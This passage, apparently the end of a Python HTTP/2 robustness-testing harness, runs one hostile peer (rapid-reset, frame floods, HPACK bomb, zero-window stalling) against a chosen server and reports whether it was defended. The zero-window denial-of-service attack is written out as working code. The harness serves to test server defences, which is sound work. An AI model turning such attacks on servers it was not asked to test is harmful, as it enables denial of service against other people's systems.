def attack_zero_window(args, deadline, report) -> tuple[Wire, H2Peer]:
    wire = Wire(args, small_buffers=False)
    report.wire = wire
    wire.connect(deadline)
    peer = H2Peer(wire, initial_window=0)
    report.peer = peer
    wire.wait(lambda: peer.got_settings, min(deadline, time.monotonic() + 10))
    if not peer.got_settings:
        raise HarnessError("the server sent no SETTINGS")
    limit = peer.conn.remote_settings.max_concurrent_streams
    count = min(args.streams, limit) if limit else args.streams
    body = memoryview(b"z" * args.body_size)
    pending: dict[int, memoryview] = {}
    try:
        for _ in range(count):
            sid = peer.conn.get_next_available_stream_id()
            peer.conn.send_headers(sid, peer.request_headers("POST", args.path, args.body_size))
            pending[sid] = body
    except h2.exceptions.ProtocolError as e:
        report.details["open_error"] = str(e)
    peer.push()
    opened = len(pending)
    upload_deadline = min(deadline - args.hold - 10, time.monotonic() + args.upload_seconds)
    while pending and not wire.closed and not peer.error and time.monotonic() < upload_deadline:
        peer.send_bodies(pending)
        wire.step(0.02)
    uploaded = opened - len(pending)
    # Hold the connection, never opening our window.
    hold_end = time.monotonic() + args.hold
    wire.wait(lambda: False, min(hold_end, deadline))
    probe, _, _ = single_request(args, min(deadline, time.monotonic() + args.probe_timeout), b"0123456789")
    report.details.update({
        "streams_opened": opened, "bodies_fully_uploaded": uploaded,
        "body_size": args.body_size, "held_seconds": args.hold,
        "response_bytes_received": sum(len(b) for b in peer.bodies.values()),
        "probe": probe,
        "server_protocol_error": peer.error,
    })
    if probe["ok"]:
        report.defended = True
        report.verdict = f"a fresh connection was served in {probe['seconds']} s while {opened} stalled streams were held"
    else:
        report.verdict = f"the fresh connection was not served: {probe['error'] or probe['status']}"
    return wire, peer


def attack_control(args, deadline, report) -> tuple[Wire, Optional[H2Peer]]:
    probe, wire, peer = single_request(args, deadline, b"hello, switchyard peers")
    report.details.update({k: probe[k] for k in ("status", "body_ok", "body_bytes") if k in probe})
    report.defended = probe["ok"]
    report.verdict = "request served as expected" if probe["ok"] else f"control failed: {probe['error'] or probe['status']}"
    if probe["error"] and probe["status"] is None and not probe["frames_sent"]:
        raise HarnessError(probe["error"])
    return wire, peer


def summarize_statuses(statuses: dict[int, Any]) -> dict[str, int]:
    summary: dict[str, int] = {}
    for status in statuses.values():
        summary[str(status)] = summary.get(str(status), 0) + 1
    return summary


def run(args: argparse.Namespace) -> tuple[dict[str, Any], int]:
    report = Report(args.attack)
    deadline = report.started + args.timeout
    wire = peer = None
    code = 1
    try:
        if args.attack == "rapid-reset":
            wire, peer = attack_rapid_reset(args, deadline, report)
        elif args.attack == "continuation-flood":
            wire, peer = attack_continuation_flood(args, deadline, report)
        elif args.attack == "hpack-bomb":
            wire, peer = attack_hpack_bomb(args, deadline, report)
        elif args.attack == "ping-flood":
            wire, peer = attack_flood(args, deadline, report, hf.PingFrame(0, opaque_data=b"hostile!").serialize())
        elif args.attack == "settings-flood":
            wire, peer = attack_flood(args, deadline, report, hf.SettingsFrame(0).serialize())
        elif args.attack == "zero-window":
            wire, peer = attack_zero_window(args, deadline, report)
        elif args.attack == "control":
            wire, peer = attack_control(args, deadline, report)
        code = 0 if report.defended else 1
        if peer is not None and peer.resets:
            report.details["reset_codes"] = summarize_statuses(
                {s: error_name(c) for s, c in peer.resets.items()})
        if peer is not None and getattr(peer, "protocol_errors", None):
            report.details["server_protocol_errors"] = peer.protocol_errors[:5]
    except HarnessError as e:
        report.error = str(e)
        report.verdict = "could not run the attack"
        code = 2
    except Exception as e:  # report, never a traceback without a report
        report.error = f"{type(e).__name__}: {e}"
        report.verdict = "harness failure"
        code = 2
    finally:
        wire = wire or report.wire
        peer = peer or report.peer
        rendered = report.render(wire, peer)
        if wire is not None:
            wire.close()
    return rendered, code


def parse_args(argv: list[str]) -> argparse.Namespace:
    epilog = "attacks and what counts as defended:\n\n" + "\n\n".join(
        f"  {name}:\n    " + "\n    ".join(wrap(text, 76)) for name, text in ATTACKS.items())
    epilog += ("\n\nexit status: 0 defended (control: served), 1 not defended, 2 could not run.\n"
               "output: with --json one JSON object on stdout; otherwise a readable summary.")
    parser = argparse.ArgumentParser(
        description="Run one hostile HTTP/2 peer against a server and report what it did.",
        epilog=epilog, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", required=True, type=int)
    parser.add_argument("--attack", required=True, choices=list(ATTACKS))
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2, no certificate verification")
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    parser.add_argument("--timeout", type=float, default=30.0, help="overall limit in seconds (default 30; zero-window takes at least --hold + --probe-timeout + 12)")
    parser.add_argument("--path", default="/echo", help="request path (default /echo)")
    parser.add_argument("--authority", help="the :authority (default HOST:PORT)")
    parser.add_argument("--method", default="POST", help="control and probe method (default POST)")
    parser.add_argument("--expect-file", help="control and probe expect this file's content as the body instead of the echo")
    parser.add_argument("--streams", type=int, help="rapid-reset streams (20000), zero-window streams (100)")
    parser.add_argument("--batch", type=int, default=100, help="rapid-reset streams per batch (100)")
    parser.add_argument("--count", type=int, default=1_000_000, help="flood frames (1000000)")
    parser.add_argument("--budget-mib", type=int, default=64, help="continuation-flood budget in MiB (64)")
    parser.add_argument("--bombs", type=int, default=16, help="hpack-bomb header blocks (16)")
    parser.add_argument("--stall", type=float, default=3.0, help="seconds without write progress that mean the server stopped reading (3)")
    parser.add_argument("--grace", type=float, default=3.0, help="seconds to wait for the server's reaction after sending (3)")
    parser.add_argument("--hold", type=float, default=5.0, help="zero-window: seconds to hold the stalled connection (5)")
    parser.add_argument("--body-size", type=int, default=MIB, help="zero-window request body size (1 MiB)")
    parser.add_argument("--upload-seconds", type=float, default=8.0, help="zero-window: time allowed for uploading the bodies (8)")
    parser.add_argument("--probe-timeout", type=float, default=5.0, help="zero-window: limit for the fresh-connection request (5)")
    args = parser.parse_args(argv)
    if args.streams is None:
        args.streams = 100 if args.attack == "zero-window" else 20_000
    if args.authority is None:
        host = f"[{args.host}]" if ":" in args.host else args.host
        args.authority = f"{host}:{args.port}"
    if args.attack == "zero-window":
        args.timeout = max(args.timeout, args.hold + args.probe_timeout + 12)
    return args


def wrap(text: str, width: int) -> list[str]:
    lines, line = [], ""
    for word in text.split():
        if line and len(line) + 1 + len(word) > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    if line:
        lines.append(line)
    return lines


def main(argv: list[str]) -> int:
    args = parse_args(argv)
    rendered, code = run(args)
    try:
        print_report(args, rendered, code)
        sys.stdout.flush()
    except BrokenPipeError:  # stdout closed by its reader (| head): keep the verdict's exit status
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
    return code


def print_report(args: argparse.Namespace, rendered: dict[str, Any], code: int) -> None:
    if args.json:
        print(json.dumps(rendered))
    else:
        status = {0: "DEFENDED" if args.attack != "control" else "PASSED",
                  1: "NOT DEFENDED" if args.attack != "control" else "FAILED",
                  2: "ERROR"}[code]
        print(f"{args.attack}: {status}: {rendered['verdict']}")
        for key, value in rendered.items():
            if key not in ("attack", "verdict", "defended"):
                print(f"  {key}: {json.dumps(value)}")


if __name__ == "__main__":
    try:
        sys.exit(main(sys.argv[1:]))
    except KeyboardInterrupt:
        sys.exit(130)
